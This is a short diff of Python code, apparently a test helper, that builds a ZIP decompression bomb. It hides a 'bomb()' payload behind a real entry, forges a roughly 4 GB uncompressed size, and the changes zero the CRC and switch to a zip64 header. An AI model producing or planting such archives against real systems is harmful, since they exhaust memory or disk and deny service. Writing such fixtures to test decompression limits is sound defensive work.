@@ -44,13 +44,14 @@ def with_bomb(entries: dict[str, bytes], name: str) -> bytes:
         packer = zlib.compressobj(9, zlib.DEFLATED, -15)  # the entry itself comes first, so that its header is valid
         start, packed = out.tell(), packer.compress(entries[name]) + packer.flush(zlib.Z_FULL_FLUSH) + bomb()
         info = zipfile.ZipInfo(name)
+        info.CRC = 0
         info.compress_type, info.compress_size, info.file_size, info.header_offset = (
             8,
             len(packed),
             255 * 2**24 + len(entries[name]),
             start,
         )
-        out.write(info.FileHeader(zip64=False) + packed)
+        out.write(info.FileHeader(zip64=True) + packed)
         archive.start_dir = out.tell()
         archive.filelist.append(info)
         archive.NameToInfo[name] = info
